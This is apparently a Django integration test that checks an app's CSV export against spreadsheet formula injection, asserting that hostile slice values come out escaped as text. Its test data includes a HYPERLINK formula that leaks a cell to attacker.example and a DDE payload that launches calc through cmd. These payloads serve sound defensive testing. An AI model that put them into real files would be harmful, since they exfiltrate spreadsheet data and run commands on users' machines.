"""The CSV export writes text a client chose (slice values) so that a spreadsheet shows it and
never runs it as a formula; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.contrib.auth.models import User

from tests.integration.pages import factories

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
HOSTILE = (HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTAB", "\rCR", "-7", "US")


def test_csv_export__formula_slice_values__written_as_text(client_for: Any, analyst: User) -> None:
    loser = [factories.MetricPlan("purchase", "conversion", "primary", base=0.12, effects=(-0.2,))]
    experiment = factories.seed(factories.winner_plan("csv-injection", metrics=loser, slices={"country": HOSTILE},
                                                      history=1, combos=len(HOSTILE)))
    response = client_for(analyst).get(f"/experiments/{experiment.key}/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    values = {r["slice_value"] for r in rows if r["slice_attribute"] == "country" and r["analysis"] != "heterogeneity"}
    assert values == {"'" + HYPERLINK, "'+SUM(1,2)", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\tTAB",
                      "'\rCR", "-7", "US"}
    # The heterogeneity rows name the same values (and the attribute's own test, without one).
    tested = {r["slice_value"] for r in rows if r["slice_attribute"] == "country" and r["analysis"] == "heterogeneity"}
    assert tested <= values | {""}
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
            if cell.startswith("-"):
                assert (name == "slice_value" and cell == "-7") or float(cell) < 0, (name, cell)
    negative = [float(r["estimate"]) for r in rows if r["estimate"].startswith("-")]
    assert negative, "the export holds negative estimates, written as numbers"
